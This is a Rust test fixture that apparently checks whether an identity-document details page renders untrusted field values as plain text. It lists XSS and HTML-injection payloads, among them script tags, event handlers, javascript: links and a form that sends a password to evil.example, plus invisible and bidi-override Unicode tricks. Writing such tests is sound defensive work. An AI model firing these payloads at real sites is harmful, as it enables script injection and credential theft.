//! The details that do harm where a page takes them for more than text.

use serde_json::{Map, Value, json};

/// Each would leave a trace of its own if it were anything but text.
pub(super) const MARKUP: [&str; 24] = [
    "<script>window.pwned = 1</script>",
    "</script><script>window.pwned = 2</script>",
    "<img src=x onerror=window.pwned=3>",
    "<svg onload=window.pwned=4></svg>",
    "<svg><script href=data:,window.pwned=5 /></svg>",
    "\"><img src=x onerror=\"window.pwned=6\">",
    "' autofocus onfocus='window.pwned=7' tabindex='1",
    "</bdi></dd></dl></section></main></body></html><h1 id=injected>",
    "--><script>window.pwned = 8</script><!--",
    "<!--",
    "]]><script>window.pwned = 9</script>",
    "<style>* { display: none !important }</style>",
    "<iframe srcdoc=\"<script>top.pwned = 10</script>\"></iframe>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<base href=https://evil.example/>",
    "<a href=javascript:window.pwned=11>Your passport</a>",
    "javascript:window.pwned=12",
    "<form action=https://evil.example/><input name=password autofocus>",
    "<details open ontoggle=window.pwned=13>",
    "<template shadowrootmode=open><slot></slot></template>",
    "{{constructor.constructor('window.pwned=14')()}}",
    "${window.pwned=15} `${window.pwned=15}`",
    "&lt;script&gt;window.pwned=16&lt;/script&gt; &#x202e; &shy;",
    "%3Cscript%3Ewindow.pwned%3D17%3C%2Fscript%3E \\u003cscript\\u003e",
];

/// Characters that are invisible or turn the text after them, and the visible spelling.
pub(super) const TRICKS: [(&str, &str); 9] = [
    ("gnp\u{202e}1234\u{202c}", "gnp[U+202E]1234[U+202C]"),
    ("A\u{2066}B\u{2069}C", "A[U+2066]B[U+2069]C"),
    ("A\u{200e}\u{200f}\u{061c}B", "A[U+200E][U+200F][U+061C]B"),
    (
        "S\u{200b}C\u{200d}H\u{feff}M\u{00ad}",
        "S[U+200B]C[U+200D]H[U+FEFF]M[U+00AD]",
    ),
    (
        "A\u{0}B\u{7}\u{1b}[2J\u{7f}",
        "A[U+0000]B[U+0007][U+001B][2J[U+007F]",
    ),
    ("A\r\nB\tC\u{85}", "A[U+000D][U+000A]B[U+0009]C[U+0085]"),
    ("A\u{2028}B\u{2029}C", "A[U+2028]B[U+2029]C"),
    ("A\u{e0041}\u{e007f}", "A[U+E0041][U+E007F]"),
    ("\u{3164}\u{115f}\u{ffa0}", "[U+3164][U+115F][U+FFA0]"),
];

/// The bytes of an endless text: many times as many as a page shows, and as many as the sandbox's script
/// takes.
pub(super) const ENDLESS: usize = 45_000;

pub(super) const FIELDS: [&str; 16] = [
    "documentType",
    "documentNumber",
    "issuingCountry",
    "jurisdiction",
    "nationality",
    "surnameAndGivenNames",
    "surname",
    "givenNames",
    "nameSuffixes",
    "namePrefixes",
    "sex",
    "dateOfBirth",
    "dateOfIssue",
    "dateOfExpiry",
    "address",
    "licenseClass",
];

/// A details answer of three documents in which `text` of a running number stands in every field.
pub(super) fn details(text: impl Fn(usize) -> String) -> Value {
    let mut count = 0;
    let mut next = || {
        count += 1;
        Value::String(text(count - 1))
    };
    let mut answer = Map::new();
    for name in ["id", "platform", "startTime", "endTime"] {
        answer.insert(name.to_owned(), next());
    }
    for name in ["documentData", "documentData2", "documentData3"] {
        let mut document: Map<_, _> = FIELDS
            .map(|field| (field.to_owned(), next()))
            .into_iter()
            .collect();
        let mut class = || json!({"from": next(), "to": next(), "notes": next()});
        // A name stands once: in the table its place depends on it.
        let classes = json!({ text(1000): class(), "plain": class() });
        document.insert("licenseClassDetails".to_owned(), classes);
        answer.insert(name.to_owned(), Value::Object(document));
    }
    Value::Object(answer)
}
